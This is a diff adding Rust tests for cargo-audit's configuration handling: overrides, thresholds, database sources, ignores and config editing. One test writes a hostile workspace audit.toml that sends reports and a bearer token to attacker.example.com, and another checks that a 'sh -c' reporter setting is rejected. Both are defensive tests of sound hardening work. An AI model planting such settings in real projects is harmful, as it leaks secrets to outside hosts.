@@ -1,7 +1,18 @@
 //! Configuration file tests
 
-use cargo_audit::config::AuditConfig;
-use std::{fs, path::Path};
+use cargo_audit::config::{
+    advisory_id_problem, url_source_name, Acknowledgment, AuditConfig, ConfigEditor,
+    DatabaseBackend, DatabaseConfig, DenyOption, FailThreshold, IgnoredAdvisory, NotifyOn,
+    OutputFormat, SortOrder, WarnOption,
+};
+use rustsec::{
+    advisory::{Informational, Severity},
+    platforms::target::OS,
+    report::{Outcome, OverriddenAction},
+    repository::tarball::Snapshot,
+    vulnerability::Scope,
+};
+use std::{fs, path::Path, process::Command};
 
 /// Ensure `audit.toml.example` parses as a valid config file
 #[test]
@@ -18,3 +29,794 @@ fn parse_audit_toml_example() {
         "https://github.com/RustSec/advisory-db.git"
     );
 }
+
+/// Ensure `CARGO_AUDIT_*` variables override config file settings
+#[test]
+fn override_from_vars() {
+    let mut config = AuditConfig::default();
+
+    config
+        .override_from_vars(vec![
+            ("CARGO_AUDIT_IGNORE", "RUSTSEC-2021-0078, RUSTSEC-2022-0001"),
+            ("CARGO_AUDIT_DENY", "unsound,yanked"),
+            ("CARGO_AUDIT_DB_URL", "https://example.com/advisory-db.git"),
+            ("CARGO_AUDIT_DB_FETCH", "false"),
+            ("CARGO_AUDIT_FORMAT", "json"),
+            ("CARGO_AUDIT_SORT", "severity"),
+            ("CARGO_AUDIT_NOTIFY_URL", "https://example.com/hook"),
+            ("CARGO_AUDIT_NOTIFY_ON", "always"),
+            ("CARGO_AUDIT_PACKAGES_OVERRIDDEN", "fail"),
+            ("CARGO_AUDIT_FEATURES", "tls, serde"),
+            ("CARGO_AUDIT_REGISTRY_LOOKUP", "false"),
+            ("CARGO_AUDIT_EPSS_THRESHOLD", "0.1"),
+            ("CARGO_AUDIT_WATCH_FETCH_INTERVAL", "15"),
+            ("CARGO_AUDIT_TREE_DEPTH", "2"),
+            ("CARGO_AUDIT_SHORTEST_PATH", "true"),
+            ("CARGO_AUDIT_TARGET", "x86_64-pc-windows-msvc"),
+            ("UNRELATED", "ignored"),
+        ])
+        .unwrap();
+
+    assert_eq!(config.advisories.ignore.len(), 2);
+    assert_eq!(config.advisories.ignore[1].id.as_str(), "RUSTSEC-2022-0001");
+    assert_eq!(
+        config.output.deny,
+        vec![DenyOption::Unsound, DenyOption::Yanked]
+    );
+    assert_eq!(
+        config.database.url.as_deref(),
+        Some("https://example.com/advisory-db.git")
+    );
+    assert!(!config.database.fetch);
+    assert_eq!(config.output.format, OutputFormat::Json);
+    assert_eq!(config.output.sort, Some(SortOrder::Severity));
+    assert_eq!(config.notify.urls, ["https://example.com/hook"]);
+    assert_eq!(config.notify.on, NotifyOn::Always);
+    assert_eq!(config.packages.overridden, OverriddenAction::Fail);
+    assert_eq!(config.features.features, ["tls", "serde"]);
+    assert!(!config.registry.lookup);
+    assert_eq!(config.epss.threshold, Some(0.1));
+    assert!(config.epss.is_enabled());
+    assert_eq!(config.watch.fetch_interval_minutes, Some(15));
+    assert_eq!(config.output.tree_depth, Some(2));
+    assert!(config.output.shortest_path);
+    assert_eq!(config.report_settings().target_os, Some(OS::Windows));
+}
+
+/// Ensure invalid `CARGO_AUDIT_*` values are rejected with the variable name
+#[test]
+fn override_from_vars_invalid() {
+    let mut config = AuditConfig::default();
+    let err = config
+        .override_from_vars(vec![("CARGO_AUDIT_DENY", "unsound,bogus")])
+        .unwrap_err();
+
+    assert!(err.to_string().contains("CARGO_AUDIT_DENY"));
+
+    let err = config
+        .override_from_vars(vec![("CARGO_AUDIT_QUIET", "yes")])
+        .unwrap_err();
+
+    assert!(err.to_string().contains("CARGO_AUDIT_QUIET"));
+}
+
+/// Ensure unrecognized `CARGO_AUDIT_*` variables (e.g. typos) are warned
+/// about
+#[test]
+fn override_from_vars_unrecognized() {
+    let dir = tempfile::tempdir().unwrap();
+
+    let output = Command::new(env!("CARGO_BIN_EXE_cargo-audit"))
+        .args(&["audit", "--color", "never", "config", "--show"])
+        .current_dir(dir.path())
+        .env("CARGO_HOME", dir.path())
+        .env("CARGO_AUDIT_IGNROE", "RUSTSEC-2020-0001")
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(0), "{}", stderr);
+    assert!(
+        stderr.contains("ignoring unrecognized environment variable CARGO_AUDIT_IGNROE"),
+        "{}",
+        stderr
+    );
+}
+
+/// Ensure remapped exit codes are used for their outcomes, and validated
+#[test]
+fn exit_codes() {
+    let parse = |toml: &str| -> AuditConfig {
+        toml::from_str(&format!("[output.exit-codes]\n{}", toml)).unwrap()
+    };
+
+    let config = parse("denied-warnings = 4\noperational-error = 5\n");
+    let exit_codes = &config.output.exit_codes;
+    exit_codes.validate().unwrap();
+    assert_eq!(exit_codes.code(Outcome::DeniedWarnings), 4);
+    assert_eq!(exit_codes.code(Outcome::OperationalError), 5);
+    assert_eq!(exit_codes.code(Outcome::VulnerabilitiesFound), 1);
+    assert_eq!(exit_codes.code(Outcome::Clean), 0);
+
+    let err = parse("stale-db = 256\n").output.exit_codes.validate();
+    assert!(err.unwrap_err().to_string().contains("must be 0-255"));
+
+    // Remapped codes can't collide with another outcome's (default) code
+    let err = parse("denied-warnings = 2\n").output.exit_codes.validate();
+    assert!(err
+        .unwrap_err()
+        .to_string()
+        .contains("exit code 2 for denied-warnings is also used for operational-error"));
+
+    assert!(toml::from_str::<AuditConfig>("[output.exit-codes]\nbogus = 1\n").is_err());
+}
+
+/// Each kind of dependency gets its own severity threshold, and the
+/// strictest rule a vulnerability fails is the one reported
+#[test]
+fn fail_on() {
+    let config: AuditConfig = toml::from_str(
+        "[output]\n\
+         fail-on = { normal = \"medium\", build = \"high\", dev = \"never\" }\n",
+    )
+    .unwrap();
+    let fail_on = config.output.fail_on.unwrap();
+
+    assert_eq!(fail_on.threshold(Scope::Dev), FailThreshold::Never);
+    assert_eq!(
+        fail_on.failed(&[Scope::Dev], Some(Severity::Critical)),
+        None
+    );
+    assert_eq!(
+        fail_on.failed(&[Scope::Build, Scope::Dev], Some(Severity::High)),
+        Some(Scope::Build)
+    );
+    assert_eq!(
+        fail_on.failed(&[Scope::Build], Some(Severity::Medium)),
+        None
+    );
+    assert_eq!(
+        fail_on.failed(&[Scope::Normal, Scope::Build], Some(Severity::Critical)),
+        Some(Scope::Normal)
+    );
+
+    // Vulnerabilities without a CVSS score fail unless their rule is `never`
+    assert_eq!(fail_on.failed(&[Scope::Build], None), Some(Scope::Build));
+
+    // Unconfigured kinds fail on any vulnerability
+    let config: AuditConfig = toml::from_str("[output.fail-on]\ndev = \"never\"\n").unwrap();
+    let fail_on = config.output.fail_on.unwrap();
+    assert_eq!(
+        fail_on.failed(&[Scope::Normal], Some(Severity::Low)),
+        Some(Scope::Normal)
+    );
+
+    let err = toml::from_str::<AuditConfig>("[output.fail-on]\nbuild = \"scary\"\n").unwrap_err();
+    assert!(
+        err.to_string().contains("invalid fail-on threshold"),
+        "{}",
+        err
+    );
+    assert!(toml::from_str::<AuditConfig>("[output.fail-on]\ntest = \"high\"\n").is_err());
+}
+
+/// Vulnerabilities only reachable through kinds of dependency which aren't in
+/// `dependency_kinds` never fail the audit, whatever their `fail-on` rule
+#[test]
+fn dependency_kinds() {
+    let config: AuditConfig = toml::from_str(
+        "[output]\n\
+         dependency_kinds = [\"normal\"]\n\
+         fail-on = { normal = \"high\", dev = \"low\" }\n",
+    )
+    .unwrap();
+    let fail_on = config.output.fail_policy().unwrap();
+
+    assert_eq!(fail_on.threshold(Scope::Build), FailThreshold::Never);
+    assert_eq!(fail_on.threshold(Scope::Dev), FailThreshold::Never);
+    assert_eq!(
+        fail_on.threshold(Scope::Normal),
+        FailThreshold::Severity(Severity::High)
+    );
+    assert_eq!(
+        fail_on.failed(&[Scope::Build, Scope::Dev], Some(Severity::Critical)),
+        None
+    );
+    assert_eq!(
+        fail_on.failed(&[Scope::Normal, Scope::Dev], Some(Severity::Critical)),
+        Some(Scope::Normal)
+    );
+
+    // Without `dependency_kinds`, the `fail-on` rules are used as they are
+    let config: AuditConfig = toml::from_str("").unwrap();
+    assert!(config.output.fail_policy().is_none());
+}
+
+/// Each category of informational advisories can be warned about, denied or
+/// silenced on its own, with or without a `warnings:` prefix
+#[test]
+fn informational_warnings() {
+    let config: AuditConfig = toml::from_str(
+        "[output]\n\
+         deny = [\"warnings:unsound\"]\n\
+         warn = [\"notice\"]\n\
+         allow = [\"unmaintained\"]\n",
+    )
+    .unwrap();
+
+    assert_eq!(config.output.deny, vec![DenyOption::Unsound]);
+    assert_eq!(
+        config.report_settings().informational_warnings,
+        vec![Informational::Unsound, Informational::Notice]
+    );
+
+    // Allowing a category overrides denying every kind of warning
+    let mut config = AuditConfig::default();
+    config.output.deny("warnings".parse().unwrap());
+    config.output.allow.push("warnings:notice".parse().unwrap());
+    assert!(config.output.deny.contains(&DenyOption::Notice));
+    assert_eq!(
+        config.report_settings().informational_warnings,
+        vec![Informational::Unmaintained, Informational::Unsound]
+    );
+
+    assert!("warnings:known-exploited".parse::<DenyOption>().is_err());
+    assert!("warnings".parse::<WarnOption>().is_err());
+}
+
+/// Named database sources default to paths under `$CARGO_HOME`, can be
+/// selected by name, and are replaced by an explicit database path
+#[test]
+fn database_sources() {
+    let mut config: AuditConfig = toml::from_str(
+        "[database.sources.rustsec]\n\
+         url = \"https://github.com/RustSec/advisory-db.git\"\n\n\
+         [database.sources.internal]\n\
+         path = \"/srv/advisory-db\"\n\
+         backend = \"local\"\n\
+         stale = true\n",
+    )
+    .unwrap();
+
+    let sources = config.database.resolve_sources().unwrap();
+    assert_eq!(sources.len(), 2);
+    assert_eq!(sources[0].name.as_deref(), Some("internal"));
+    assert_eq!(sources[0].path, Path::new("/srv/advisory-db"));
+    assert!(!sources[0].fetch);
+    assert!(sources[0].stale);
+    assert_eq!(sources[1].name.as_deref(), Some("rustsec"));
+    assert_eq!(
+        sources[1].path,
+        DatabaseConfig::default_sources_dir().join("rustsec")
+    );
+    assert!(sources[1].fetch);
+    assert!(!sources[1].stale);
+
+    config.database.only = vec!["rustsec".to_owned()];
+    let sources = config.database.resolve_sources().unwrap();
+    assert_eq!(sources.len(), 1);
+    assert_eq!(sources[0].name.as_deref(), Some("rustsec"));
+
+    config.database.only = vec!["bogus".to_owned()];
+    assert!(config.database.resolve_sources().is_err());
+
+    // `--db-path` is an anonymous source
+    config.database.only = vec![];
+    config.database.path = Some("/tmp/advisory-db".into());
+    let sources = config.database.resolve_sources().unwrap();
+    assert_eq!(sources.len(), 1);
+    assert_eq!(sources[0].name, None);
+    assert_eq!(sources[0].path, Path::new("/tmp/advisory-db"));
+    assert_eq!(
+        sources[0].url.as_deref(),
+        Some(rustsec::repository::git::DEFAULT_URL)
+    );
+}
+
+/// Databases in `urls` are merged into the configured one, each cloned to a
+/// directory named after its URL
+#[test]
+fn database_urls() {
+    let config: AuditConfig = toml::from_str(
+        "[database]\n\
+         urls = [\n\
+             \"https://git.example.com/security/advisory-db.git\",\n\
+             \"https://github.com/RustSec/advisory-db.git\",\n\
+         ]\n",
+    )
+    .unwrap();
+
+    let sources = config.database.resolve_sources().unwrap();
+    assert_eq!(sources.len(), 2);
+    assert_eq!(sources[0].name, None);
+    assert_eq!(
+        sources[1].name.as_deref(),
+        Some("git.example.com-security-advisory-db")
+    );
+    assert_eq!(
+        sources[1].path,
+        DatabaseConfig::default_sources_dir().join("git.example.com-security-advisory-db")
+    );
+    assert_eq!(sources[1].label(), "git.example.com-security-advisory-db");
+    assert_eq!(sources[0].label(), rustsec::repository::git::DEFAULT_URL);
+
+    assert_eq!(
+        url_source_name("git@git.example.com:security/advisory-db.git"),
+        "git-git.example.com-security-advisory-db"
+    );
+}
+
+/// The tarball backend downloads a snapshot of the RustSec database by
+/// default, into its own directory
+#[test]
+fn tarball_backend() {
+    let config: AuditConfig = toml::from_str("[database]\nbackend = \"tarball\"\n").unwrap();
+
+    let sources = config.database.resolve_sources().unwrap();
+    assert_eq!(sources.len(), 1);
+    assert_eq!(sources[0].backend, DatabaseBackend::Tarball);
+    assert_eq!(sources[0].path, Snapshot::default_path());
+    assert_eq!(
+        sources[0].url.as_deref(),
+        Some(rustsec::repository::tarball::DEFAULT_URL)
+    );
+    assert!(sources[0].fetch);
+}
+
+/// Vendored copies of the database are used as-is, and only the network uses
+/// left over are reported by `network_uses`
+#[test]
+fn vendored_database() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::create_dir_all(dir.path().join("crates")).unwrap();
+
+    let mut config = AuditConfig::default();
+    config.database.path = Some(dir.path().to_owned());
+    config.registry.lookup = false;
+
+    let sources = config.database.resolve_sources().unwrap();
+    assert_eq!(sources[0].backend, DatabaseBackend::Local);
+    assert!(!sources[0].fetch);
+    assert_eq!(
+        config.network_uses(),
+        vec!["updating the crates.io index (use --no-fetch)"]
+    );
+
+    config.yanked.enabled = false;
+    assert!(config.network_uses().is_empty());
+
+    // A git checkout is still fetched
+    std::fs::create_dir_all(dir.path().join(".git")).unwrap();
+    assert!(config.database.resolve_sources().unwrap()[0].fetch);
+    assert_eq!(config.network_uses().len(), 1);
+}
+
+/// Ensure ignored advisories can be given as bare IDs or as tables
+#[test]
+fn parse_ignored_advisories() {
+    let config: AuditConfig = toml::from_str(
+        r#"
+        [advisories]
+        ignore = [
+            "RUSTSEC-2019-0001",
+            { id = "RUSTSEC-2019-0002", reason = "not reachable", expires = "2024-12-31" },
+        ]
+        "#,
+    )
+    .unwrap();
+
+    let ignore = &config.advisories.ignore;
+    assert_eq!(ignore[0].id.as_str(), "RUSTSEC-2019-0001");
+    assert_eq!(ignore[0].reason, None);
+    assert_eq!(ignore[1].id.as_str(), "RUSTSEC-2019-0002");
+    assert_eq!(ignore[1].reason.as_deref(), Some("not reachable"));
+    assert_eq!(ignore[1].expires.as_ref().unwrap().as_str(), "2024-12-31");
+
+    assert!(toml::from_str::<AuditConfig>(
+        r#"
+        [advisories]
+        ignore = [{ id = "RUSTSEC-2019-0001", bogus = true }]
+        "#
+    )
+    .is_err());
+
+    // Ignores which expire need a reason
+    assert!(toml::from_str::<AuditConfig>(
+        r#"
+        [advisories]
+        ignore = [{ id = "RUSTSEC-2019-0001", expires = "2024-12-31" }]
+        "#
+    )
+    .is_err());
+
+    let today = "2024-12-31".parse().unwrap();
+    assert!(ignore[0].is_active(&today));
+    assert!(ignore[1].is_active(&today));
+    assert!(!ignore[1].is_active(&"2025-01-01".parse().unwrap()));
+}
+
+/// Ignores scoped to packages or dependency paths aren't applied while
+/// matching advisories, and versions need a package
+#[test]
+fn parse_scoped_ignores() {
+    let config: AuditConfig = toml::from_str(
+        r#"
+        [advisories]
+        ignore = [
+            "RUSTSEC-2019-0001",
+            { id = "RUSTSEC-2019-0002", package = "foo", version = "0.1.0" },
+            { id = "RUSTSEC-2019-0003", via = ["criterion"] },
+        ]
+        "#,
+    )
+    .unwrap();
+
+    let ignore = &config.advisories.ignore;
+    assert!(!ignore[0].is_scoped());
+    assert_eq!(ignore[1].package.as_ref().unwrap().as_str(), "foo");
+    assert_eq!(ignore[1].version.as_ref().unwrap().to_string(), "0.1.0");
+    assert_eq!(ignore[2].via[0].as_str(), "criterion");
+    assert_eq!(config.report_settings().ignore, vec![ignore[0].id.clone()]);
+
+    assert!(toml::from_str::<AuditConfig>(
+        r#"
+        [advisories]
+        ignore = [{ id = "RUSTSEC-2019-0001", version = "0.1.0" }]
+        "#
+    )
+    .is_err());
+}
+
+/// Ensure `ConfigEditor` adds and updates ignore entries in-place
+#[test]
+fn config_editor_ignore() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("audit.toml");
+    fs::write(
+        &path,
+        "# comment\n[advisories]\nignore = [\"RUSTSEC-2019-0001\"]\n\n[output]\nquiet = true\n",
+    )
+    .unwrap();
+
+    let mut advisory = IgnoredAdvisory {
+        id: "RUSTSEC-2019-0002".parse().unwrap(),
+        reason: Some("not reachable".to_owned()),
+        expires: None,
+        justification: None,
+        package: None,
+        version: None,
+        via: vec![],
+    };
+
+    let mut editor = ConfigEditor::open(&path).unwrap();
+    assert!(!editor.ignore(&advisory).unwrap());
+
+    advisory.expires = Some("2024-12-31".parse().unwrap());
+    assert!(editor.ignore(&advisory).unwrap());
+    editor.save().unwrap();
+
+    let toml_string = fs::read_to_string(&path).unwrap();
+    assert!(toml_string.starts_with("# comment\n"));
+
+    let config: AuditConfig = toml::from_str(&toml_string).unwrap();
+    assert_eq!(config.advisories.ignore.len(), 2);
+    assert_eq!(config.advisories.ignore[1], advisory);
+    assert!(config.output.quiet);
+}
+
+/// Ensure `ConfigEditor` adds and updates acknowledgments in-place
+#[test]
+fn config_editor_acknowledge() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("audit.toml");
+    fs::write(&path, "[advisories]\nignore = [\"RUSTSEC-2019-0001\"]\n").unwrap();
+
+    let mut acknowledgment = Acknowledgment {
+        id: "RUSTSEC-2019-0002".parse().unwrap(),
+        ticket: "JIRA-123".to_owned(),
+        date: Some("2024-01-01".parse().unwrap()),
+        expires: "2024-01-31".parse().unwrap(),
+    };
+
+    let mut editor = ConfigEditor::open(&path).unwrap();
+    assert!(!editor.acknowledge(&acknowledgment).unwrap());
+
+    acknowledgment.expires = "2024-02-29".parse().unwrap();
+    assert!(editor.acknowledge(&acknowledgment).unwrap());
+    editor.save().unwrap();
+
+    assert_eq!(
+        acknowledgment.to_toml(),
+        "{ id = \"RUSTSEC-2019-0002\", ticket = \"JIRA-123\", date = \"2024-01-01\", expires = \"2024-02-29\" }"
+    );
+
+    let config = AuditConfig::parse(&fs::read_to_string(&path).unwrap()).unwrap();
+    assert_eq!(config.advisories.ignore.len(), 1);
+    assert_eq!(config.advisories.acknowledged, vec![acknowledgment.clone()]);
+    assert!(acknowledgment.is_active(&"2024-02-29".parse().unwrap()));
+    assert!(!acknowledgment.is_active(&"2024-03-01".parse().unwrap()));
+
+    let config = AuditConfig::parse(
+        "[advisories]\n\
+         acknowledged = [\n\
+         { id = \"RUSTSEC-2019-0002\", ticket = \"\", expires = \"2024-02-30\" },\n\
+         { id = \"RUSTSEC-2019-0002\", ticket = \"JIRA-123\", expires = \"2024-02-29\" },\n\
+         ]\n",
+    )
+    .unwrap();
+
+    let problems: Vec<_> = config
+        .problems()
+        .into_iter()
+        .map(|problem| problem.message)
+        .collect();
+
+    assert_eq!(
+        problems,
+        [
+            "the acknowledgment of RUSTSEC-2019-0002 needs a ticket",
+            "2024-02-30 isn't a date in the calendar",
+            "RUSTSEC-2019-0002 is acknowledged more than once",
+        ]
+    );
+}
+
+/// Ensure parse errors are located by line and key
+#[test]
+fn parse_problems() {
+    let problem = AuditConfig::parse("[output]\nquiet = true\nformat = 5\n").unwrap_err();
+    assert_eq!(problem.line, Some(3));
+    assert_eq!(problem.key.as_deref(), Some("output.format"));
+    assert_eq!(
+        problem.to_string(),
+        "`output.format`: expected string or inline table, found integer"
+    );
+
+    let problem = AuditConfig::parse("[output]\nquiet = true\nformt = \"json\"\n").unwrap_err();
+    assert_eq!(problem.line, Some(3));
+    assert_eq!(problem.key.as_deref(), Some("output.formt"));
+    assert!(problem.message.starts_with("unknown field `formt`"));
+
+    let problem = AuditConfig::parse(
+        "[advisories]\nignore = [\"RUSTSEC-2020-0001\"]\n\n[advisories.extra]\n",
+    )
+    .unwrap_err();
+    assert_eq!(problem.line, Some(4));
+    assert_eq!(problem.key.as_deref(), Some("advisories.extra"));
+}
+
+/// Ensure well-typed but wrong values are found
+#[test]
+fn value_problems() {
+    for id in &[
+        "RUSTSEC-2020-0001",
+        "CVE-2020-123456",
+        "GHSA-jfh8-c2jp-5v3q",
+        "INTERNAL-7",
+    ] {
+        assert_eq!(advisory_id_problem(&id.parse().unwrap()), None, "{}", id);
+    }
+
+    for id in &[
+        "RUSTSEC-2020-01",
+        "CVE-2020-1",
+        "GHSA-jfh8-c2jp",
+        "rustsec-2020-0001",
+    ] {
+        assert!(
+            advisory_id_problem(&id.parse().unwrap()).is_some(),
+            "{}",
+            id
+        );
+    }
+
+    let config = AuditConfig::parse(
+        "[advisories]\n\
+         ignore = [\"RUSTSEC-2020-0001\", \"RUSTSEC-2020-0001\"]\n\n\
+         [database.sources.internal]\n\
+         path = \"internal-db\"\n\n\
+         [notify]\n\
+         urls = [\"hooks.example.com\"]\n\n\
+         [epss]\n\
+         threshold = 1.5\n",
+    )
+    .unwrap();
+
+    let problems: Vec<_> = config
+        .problems()
+        .into_iter()
+        .map(|problem| problem.locate(Path::new("audit.toml"), "[database.sources.internal]"))
+        .map(|problem| problem.to_string())
+        .collect();
+
+    assert_eq!(problems.len(), 4, "{:?}", problems);
+    assert_eq!(
+        problems[0],
+        "audit.toml: `advisories.ignore`: RUSTSEC-2020-0001 is ignored more than once"
+    );
+    assert_eq!(
+        problems[1],
+        "audit.toml: `epss.threshold`: invalid EPSS threshold 1.5 (must be 0-1)"
+    );
+    assert!(
+        problems[2].starts_with("audit.toml:1: `database.sources.internal`: a `url` is required")
+    );
+    assert!(problems[3].starts_with("audit.toml: `notify.urls`: invalid URL"));
+    assert!(config.validate().is_err());
+}
+
+/// Ensure `cargo audit config check` reports every problem and fails
+#[test]
+fn config_check() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("audit.toml");
+
+    let check = || {
+        Command::new(env!("CARGO_BIN_EXE_cargo-audit"))
+            .args(&["audit", "--color", "never", "config", "check", "--file"])
+            .arg(&path)
+            .env_remove("CARGO_AUDIT_IGNORE")
+            .output()
+            .unwrap()
+    };
+
+    fs::write(
+        &path,
+        "[advisories]\nignore = [\"RUSTSEC-2020-01\", \"CVE-20-1\"]\n",
+    )
+    .unwrap();
+    let output = check();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr);
+    assert!(
+        stderr.contains("audit.toml:2: `advisories.ignore`: parse error: out-of-range year"),
+        "{}",
+        stderr
+    );
+
+    fs::write(
+        &path,
+        "[advisories]\nignore = [\"RUSTSEC-2020-01\", \"CVE-2020-1\"]\n",
+    )
+    .unwrap();
+    let output = check();
+    let stderr = String::from_utf8_lossy(&output.stderr);
+    assert_eq!(output.status.code(), Some(1), "{}", stderr);
+    assert!(
+        stderr.contains("malformed advisory ID \"RUSTSEC-2020-01\""),
+        "{}",
+        stderr
+    );
+    assert!(
+        stderr.contains("malformed advisory ID \"CVE-2020-1\""),
+        "{}",
+        stderr
+    );
+    assert!(stderr.contains("2 problems found"), "{}", stderr);
+
+    fs::write(&path, "[advisories]\nignore = [\"RUSTSEC-2020-0001\"]\n").unwrap();
+    let output = check();
+    assert_eq!(output.status.code(), Some(0));
+    assert!(String::from_utf8_lossy(&output.stdout).contains("no problems found"));
+}
+
+/// Write the user's and a workspace's `audit.toml` into temporary
+/// directories, returning (CARGO_HOME, workspace directory)
+fn config_layers() -> (tempfile::TempDir, tempfile::TempDir) {
+    let home = tempfile::tempdir().unwrap();
+    fs::write(
+        home.path().join("audit.toml"),
+        "[advisories]\n\
+         ignore = [\"RUSTSEC-2020-0001\"]\n\n\
+         [output]\n\
+         format = \"json\"\n\
+         quiet = true\n",
+    )
+    .unwrap();
+
+    let workspace = tempfile::tempdir().unwrap();
+    fs::create_dir_all(workspace.path().join(".cargo")).unwrap();
+    fs::write(
+        workspace.path().join(".cargo").join("audit.toml"),
+        "[advisories]\n\
+         ignore = [\"RUSTSEC-2020-0001\", \"RUSTSEC-2021-0001\"]\n\n\
+         [output]\n\
+         format = \"markdown\"\n",
+    )
+    .unwrap();
+
+    (home, workspace)
+}
+
+/// Ensure the workspace's `audit.toml` is layered over the user's
+#[test]
+fn layered_config() {
+    let (home, workspace) = config_layers();
+    let paths = [
+        home.path().join("audit.toml"),
+        workspace.path().join(".cargo").join("audit.toml"),
+    ];
+
+    let config = AuditConfig::load_layers(&paths).unwrap();
+    let ignored: Vec<_> = config
+        .advisories
+        .ignore
+        .iter()
+        .map(|advisory| advisory.id.as_str())
+        .collect();
+    assert_eq!(ignored, ["RUSTSEC-2020-0001", "RUSTSEC-2021-0001"]);
+    assert_eq!(config.output.format, OutputFormat::Markdown);
+    assert!(config.output.quiet);
+
+    // Problems are located in the file with the highest precedence which
+    // sets their key
+    fs::write(&paths[0], "[epss]\nthreshold = 1.5\n").unwrap();
+    let problem = AuditConfig::load_layers(&paths).unwrap_err();
+    assert_eq!(problem.file.as_deref(), Some(paths[0].as_path()));
+    assert_eq!(problem.key.as_deref(), Some("epss.threshold"));
+    assert_eq!(AuditConfig::check(&paths).len(), 1);
+}
+
+/// Ensure a workspace's `audit.toml` can't choose where reports (and the
+/// environment variables in their headers) are sent
+#[test]
+fn workspace_notify_urls_ignored() {
+    let workspace = tempfile::tempdir().unwrap();
+    let path = workspace.path().join("audit.toml");
+    fs::write(
+        &path,
+        "[notify]\n\
+         urls = [\"https://attacker.example.com/hook\"]\n\
+         webhook = \"https://attacker.example.com/slack\"\n\
+         headers = { Authorization = \"Bearer ${AUDIT_WEBHOOK_TOKEN}\" }\n\
+         on = \"always\"\n",
+    )
+    .unwrap();
+
+    let config = AuditConfig::load_file(&path).unwrap();
+    assert!(config.notify.urls.is_empty());
+    assert!(config.notify.webhook.is_none());
+    assert!(config.notify.headers.is_empty());
+    assert_eq!(config.notify.on, NotifyOn::Always);
+}
+
+/// Ensure reporters can't be set in `audit.toml`, so auditing a workspace
+/// doesn't run a program of its choosing
+#[test]
+fn reporter_not_configurable() {
+    let problem = AuditConfig::parse("[output]\nreporter = \"sh -c exit\"\n").unwrap_err();
+    assert!(problem.to_string().contains("reporter"), "{}", problem);
+}
+
+/// Ensure `cargo audit config --show` prints the effective configuration,
+/// with command-line flags taking precedence over the files
+#[test]
+fn config_show() {
+    let (home, workspace) = config_layers();
+    let subdir = workspace.path().join("crates").join("app");
+    fs::create_dir_all(&subdir).unwrap();
+
+    let output = Command::new(env!("CARGO_BIN_EXE_cargo-audit"))
+        .args(&["audit", "--color", "never", "--format", "sarif"])
+        .args(&["config", "--show"])
+        .current_dir(&subdir)
+        .env("CARGO_HOME", home.path())
+        .env_remove("CARGO_AUDIT_IGNORE")
+        .env_remove("CARGO_AUDIT_FORMAT")
+        .env_remove("CARGO_AUDIT_QUIET")
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert_eq!(output.status.code(), Some(0), "{:?}", output);
+
+    assert!(
+        stdout.contains(&format!("# - {}", home.path().join("audit.toml").display())),
+        "{}",
+        stdout
+    );
+    assert!(stdout.contains(".cargo/audit.toml"), "{}", stdout);
+
+    let config = AuditConfig::parse(&stdout).unwrap();
+    assert_eq!(config.advisories.ignore.len(), 2);
+    assert_eq!(config.output.format, OutputFormat::Sarif);
+    assert!(config.output.quiet);
+}